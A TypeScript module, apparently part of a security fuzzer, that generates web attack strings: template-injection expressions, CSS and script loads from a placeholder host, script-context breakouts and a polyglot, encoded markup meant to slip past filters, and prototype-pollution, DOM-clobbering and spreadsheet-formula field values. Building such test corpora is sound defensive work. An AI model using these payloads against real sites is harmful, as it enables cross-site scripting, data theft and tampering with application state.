import { eventHandler, scriptTag } from './payload-markup.ts'
import { type Family, scriptCall, asEntities } from './payload-parts.ts'

export const templateExpression: Family = (random) => {
  const code = scriptCall(random)
  return random.oneOf([
    `{{constructor.constructor('${code}')()}}`,
    `\${${code}}`,
    `#{${code}}`,
    `<%= ${code} %>`,
    `{{{title}}}`,
    `{{reply}}`,
    `{%${code}%}`,
    `<template data-answer="ticket-created" data-title="x">${code}</template>`,
    `<p ng-app ng-init="${code}">`,
    `<p v-html="'${code}'">`,
    `<form-island onfocus=${code} tabindex=1 autofocus>`,
    `<template shadowrootmode=open><img src=x onerror=${code}></template>`,
    '$& $1 $`',
  ])
}
export const styleInjection: Family = (random) =>
  random.oneOf([
    `<style>@import '//sprung.invalid/x.css'</style>`,
    `<p style="background:url(//sprung.invalid/x)">`,
    `<link rel=stylesheet href=//sprung.invalid>`,
    `</style><script>${scriptCall(random)}</script>`,
    `<style>*{background:url(//sprung.invalid)}</style>`,
    `x;}*{background:url(//sprung.invalid/x)`,
    `<p style="x:expression(${scriptCall(random)})">`,
    `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=${scriptCall(random)}>`,
    `<link rel=preload as=script href=//sprung.invalid/x.js>`,
    `<img srcset="//sprung.invalid/x 1x">`,
  ])
export const contextBreakout: Family = (random) =>
  random.oneOf([
    `'-${scriptCall(random)}-'`,
    `";${scriptCall(random)}//`,
    `</script><script>${scriptCall(random)}//`,
    `\\u003cscript\\u003e${scriptCall(random)}`,
    `\u2028${scriptCall(random)}//`,
    `*/${scriptCall(random)}/*`,
    `\`;${scriptCall(random)};\``,
    `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${scriptCall(random)}//'>`,
  ])
export const encodedMarkup: Family = (random) => {
  const plain = random.oneOf([scriptTag, eventHandler])(random)
  return random.oneOf([
    encodeURIComponent,
    asEntities,
    (text: string) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    (text: string) => encodeURIComponent(encodeURIComponent(text)),
    (text: string) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
    (text: string) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
    (text: string) => text.replaceAll('<', '<\u200b'),
    (text: string) => text.replaceAll('<', '\\x3c'),
    (text: string) => `\u202e${text}`,
    (text: string) => text.replaceAll('<', '&amp;lt;'),
    (text: string) => text.replaceAll('<', '\u{e003c}<'),
  ])(plain)
}
export const hostileName: Family = (random) =>
  random.oneOf([
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    '{"__proto__":{"sprung":1}}',
    '__proto__[sprung]',
    '[object Object]',
    'null',
    'undefined',
    'constructor.prototype.sprung',
    '<img name=body>',
    '<form id=location>',
    '<a id=document>',
    '<img name=getElementById>',
    'javascript:void',
    '-1',
    '=HYPERLINK(1)',
    '@SUM(1)',
  ]) + random.oneOf(['', '', ` ${random.below(1000)}`])
